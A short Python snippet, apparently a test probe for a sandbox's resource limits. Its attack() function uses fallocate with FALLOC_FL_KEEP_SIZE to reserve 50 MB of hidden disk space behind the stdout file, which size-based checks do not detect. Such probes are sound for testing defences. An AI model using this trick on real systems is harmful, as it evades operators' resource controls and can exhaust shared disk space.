"""Takes 50 MB of disk beyond the end of the file that collects what is printed, which its size does not show."""
import ctypes
import os


def attack():
    libc = ctypes.CDLL(None, use_errno=True)
    if libc.fallocate(1, 1, ctypes.c_long(0), ctypes.c_long(50 << 20)):  # FALLOC_FL_KEEP_SIZE
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return f"{os.fstat(1).st_blocks >> 11} MB"
